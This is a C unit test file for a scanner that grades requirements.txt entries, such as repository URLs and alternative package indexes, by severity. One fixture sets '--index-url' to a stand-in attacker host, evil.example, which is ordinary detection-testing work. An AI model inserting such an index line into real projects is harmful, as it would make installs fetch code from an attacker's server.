/* SPDX-License-Identifier: Apache-2.0 */
#include "engine/note.h"
#include "support.h"

#define B(s) PK_LIT(s)

static void ordinary_requirements_are_text(void **state)
{
	const struct pk_job *job = t_scan(
		"requirements.txt",
		B("# what is needed\ntorch==2.1.0\nnumpy>=1.20,<2  # why\n"
		  "scipy [extra] ~= 1.0; python_version < '3.9'\n-r more.txt\n"));

	(void)state;
	assert_null(job->primary);
	assert_int_equal(t_findings(), 0);
}

static void addresses_are_low(void **state)
{
	const struct pk_job *job = t_scan(
		"requirements.txt",
		B("torch\ngit+https://github.com/a/b\n"
		  "c @ https://example.com/c.whl\n-e git+ssh://x/y#egg=z\n"));

	(void)state;
	assert_int_equal(t_severity(PK_RULE_REPO_REQUIREMENT), PK_LOW);
	assert_int_equal(t_findings(), 3);
	assert_int_equal(job->ref_count, 3);
	assert_int_equal(job->refs->kind, PK_REF_URL);
}

static void other_indexes_are_said(void **state)
{
	(void)state;
	t_scan("requirements.txt",
	       B("--extra-index-url https://download.pytorch.org/whl/cu118\n"
		 "torch\n"));
	assert_int_equal(t_findings(), 0);
	t_scan("requirements.txt",
	       B("--index-url=http://evil.example/simple\ntorch\n"));
	assert_int_equal(t_severity(PK_RULE_REPO_PACKAGE_INDEX), PK_MEDIUM);
}

static void prose_is_none_of_ours(void **state)
{
	(void)state;
	assert_null(t_scan("README.md", B("Install\n\ngit+https://x/y is it.\n"
					  "Have fun, all of you\n"))
			    ->primary);
	assert_null(
		t_scan("links.txt", B("see https://example.com/ for more\n"))
			->primary);
}

static void survives_damage(void **state)
{
	(void)state;
	t_survives_damage("requirements.txt",
			  B("a @ https://x/y\n-i http://z\nb==1 # c\n"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		T_TEST(ordinary_requirements_are_text),
		T_TEST(addresses_are_low),
		T_TEST(other_indexes_are_said),
		T_TEST(prose_is_none_of_ours),
		T_TEST(survives_damage),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
